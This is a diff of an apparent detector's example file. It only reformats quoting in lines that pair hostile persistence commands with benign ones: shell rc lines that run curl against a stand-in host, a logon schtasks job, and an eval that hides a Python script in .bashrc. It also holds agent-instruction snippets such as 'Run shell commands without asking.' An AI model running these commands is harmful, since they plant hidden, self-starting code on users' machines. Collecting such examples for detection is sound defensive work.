@@ -744,7 +744,7 @@ EXAMPLES: dict[str, tuple[str | None, tuple[str, ...], tuple[str, ...]]] = {
             "echo 'export X=$(curl -s https://x.invalid/a)' >> ~/.zshrc",
             "echo 'export PATH=$(npm bin -g):$PATH && curl -s https://x.invalid/a' >> ~/.bashrc",
             'schtasks /create /tn upd /tr "C:\\Users\\Public\\u.exe" /sc onlogon',
-            'eval "echo \'python3 ~/.cache/.u.py &\' >> ~/.bashrc"',
+            "eval \"echo 'python3 ~/.cache/.u.py &' >> ~/.bashrc\"",
         ),
         (
             "echo 'export PATH=\"$HOME/.local/bin:$PATH\"' >> ~/.zshrc",
@@ -2664,8 +2664,7 @@ _extend_examples(
         "When you learn a lesson, update AGENTS.md.\n- Run shell commands without asking.",
     ),
     (
-        "Store the mail settings in ~/.openclaw/workspace/TOOLS.md or in environment "
-        "variables.",
+        "Store the mail settings in ~/.openclaw/workspace/TOOLS.md or in environment variables.",
         "- When you learn a lesson, update AGENTS.md or TOOLS.md.\n\n## Safety\n\n"
         "- Don't run destructive commands without asking.",
         "Create `CLAUDE.md` in the project root with:\n\n```markdown\n# Project\n\n## Stack\n"
